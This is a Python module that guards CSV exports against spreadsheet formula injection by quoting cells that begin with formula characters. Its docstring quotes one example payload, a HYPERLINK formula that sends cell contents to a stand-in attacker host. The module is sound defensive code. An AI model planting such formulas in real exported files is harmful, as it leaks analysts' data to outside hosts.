"""CSV text that spreadsheets open as data, never as formulas: ``csv_text``.

Excel and LibreOffice run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (and strip a leading tab or carriage return before looking), so an event
title such as ``=HYPERLINK("http://evil.example/?"&A1)`` or a DDE payload in a CSV
bordermap writes would run on the analyst's machine.  Following OWASP's advice on
CSV injection, such a cell is written with a leading single quote, which the
spreadsheet shows as text.  Numbers stay numbers: a float or int value, or a text
cell that is wholly a decimal number (``-2.5``, ``+3``, ``1e-4``), is written as it
is, because a spreadsheet reads it as a number and cannot run it.

Every CSV bordermap writes goes through :func:`csv_text`.
"""

from __future__ import annotations

import csv
import io
import itertools
import math
import re
from collections.abc import Iterable, Sequence

#: First characters that make a spreadsheet treat a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: What is put in front of such a cell.
QUOTE = "'"

_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise_cell(value: object) -> object:
    """Return ``value`` as a CSV cell that no spreadsheet runs as a formula.

    Parameters
    ----------
    value : object
        A cell: text, a number, ``None`` (written as empty) or anything with ``str``.

    Returns
    -------
    object
        Numbers (``int``, ``float``, NumPy scalars) unchanged, NaN and ``None`` as
        ``""``; text starting with one of :data:`FORMULA_STARTS` prefixed with
        :data:`QUOTE` unless the whole text is a decimal number.

    Examples
    --------
    >>> neutralise_cell("=1+1")
    "'=1+1"
    >>> neutralise_cell("-2.5"), neutralise_cell(-2.5)
    ('-2.5', -2.5)
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, float) and math.isnan(value):
        return ""
    if isinstance(value, int) or (isinstance(value, float) and math.isfinite(value)):
        return value
    if hasattr(value, "item") and not isinstance(value, str):  # numpy scalars
        return neutralise_cell(value.item())
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return QUOTE + text
    return text


def csv_text(columns: Sequence[object], rows: Iterable[Sequence[object]]) -> str:
    """Write a header and rows as CSV text (``\\n`` line ends), every cell neutralised.

    Parameters
    ----------
    columns : sequence
        Header names; they are neutralised too, since extra columns of an event
        file carry the names users gave them.
    rows : iterable of sequences
        One sequence of cells per row, aligned with ``columns``.

    Returns
    -------
    str
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    # The csv module quotes a field for the characters of the line terminator only,
    # so a lone carriage return would go out bare and end the row in most readers;
    # a row holding one is written with every field quoted.
    quoting_writer = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for cells in itertools.chain([[str(c) for c in columns]], rows):
        out = [neutralise_cell(v) for v in cells]
        has_cr = any(isinstance(v, str) and "\r" in v for v in out)
        (quoting_writer if has_cr else writer).writerow(out)
    return buffer.getvalue()
